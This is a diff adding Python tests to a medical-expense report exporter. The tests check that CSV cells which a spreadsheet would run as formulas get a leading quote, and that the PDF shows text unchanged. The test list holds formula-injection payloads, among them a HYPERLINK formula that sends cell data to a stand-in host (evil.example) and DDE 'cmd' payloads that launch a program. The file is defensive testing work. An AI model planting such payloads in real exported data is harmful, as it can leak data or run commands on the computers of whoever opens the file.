@@ -77,6 +77,32 @@ def test_contributions_csv_in_english(env, zw):
     assert rows[-1] == ["Total", "", "", "", yuan_text(totals["paid"]), yuan_text(totals["subsidy"])]
 
 
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Refund")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_that_spreadsheets_would_run_as_formulas_are_neutralised(env, zw, father):
+    # A record's institution or items come from outside (a hospital's system); in Excel, a cell starting with
+    # = + - @ (or a tab or carriage return before one) is a formula that can open links or run commands.
+    report = records.expenses(env, zw, father, year=2025)
+    first = report.rows[0]
+    hostile = [replace(first, institution=text, items=text) for text in HOSTILE]
+    refund = replace(first, institution="北京协和医院", items="-", total_fen=-1250, fund_fen=-1000, family_fen=-250)
+    rows = _rows(records_csv(replace(report, rows=[*hostile, refund]), ZH_EXPENSES))
+
+    for row, text in zip(rows[1:], HOSTILE, strict=False):
+        assert row[2] == row[3] == "'" + text  # shown as the text it is, never run
+    assert rows[len(HOSTILE) + 1][2:] == ["北京协和医院", "'-", "-12.50", "-10.00", "-2.50"]  # amounts stay numbers
+    assert rows[0] == list(ZH_EXPENSES.columns)
+
+
+def test_the_pdf_shows_the_text_as_it_is(env, zw, father):
+    report = records.expenses(env, zw, father, year=2025)
+    hostile = replace(report.rows[0], institution="=1+1 医院")
+    text = _pdf_text(records_pdf(replace(report, rows=[hostile]), ZH_EXPENSES, env.clock.today()))
+    assert "=1+1 医院" in text and "'=1+1" not in text
+
+
 def _pdf_text(data: bytes) -> str:
     reader = PdfReader(io.BytesIO(data))
     return "\n".join(page.extract_text() for page in reader.pages)
